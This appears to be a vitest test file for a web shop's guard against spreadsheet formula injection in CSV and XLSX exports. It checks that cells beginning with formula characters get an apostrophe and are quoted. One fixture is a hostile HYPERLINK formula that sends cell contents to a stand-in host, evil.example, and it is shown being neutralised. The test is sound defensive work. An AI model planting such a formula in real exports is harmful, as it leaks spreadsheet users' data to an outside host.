/** The one guard every CSV and XLSX the shop writes puts on text (issue #33). */
import { describe, expect, it } from 'vitest';
import { spreadsheetText, toCsv } from '@/server/platform/csv';

const csvLine = (cells: string[]) =>
  toCsv([cells])
    .toString('utf8')
    .replace(/^\uFEFF/, '')
    .replace(/\r\n$/, '');

describe('spreadsheet text', () => {
  it('puts an apostrophe before whatever a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\0'])
      expect(spreadsheetText(`${start}1+1`)).toBe(`'${start}1+1`);
    // Anything else is left as it was, including a formula sign further in.
    for (const text of ['ДЖ-107', 'Белый', '40,5', 'a=b', ' =1', "'=1", ''])
      expect(spreadsheetText(text)).toBe(text);
  });

  it('quotes a guarded CSV cell, so a tab or carriage return first cannot be trimmed away', () => {
    expect(csvLine(['\t=1+1', '\r=2', '-2+3', 'ДЖ-107', 'Кулирка; пенье'])).toBe(
      `"'\t=1+1";"'\r=2";"'-2+3";ДЖ-107;"Кулирка; пенье"`,
    );
    expect(csvLine(['=HYPERLINK("http://evil.example/?d="&A2&B2;"Открыть")'])).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A2&B2;""Открыть"")"`,
    );
  });
});
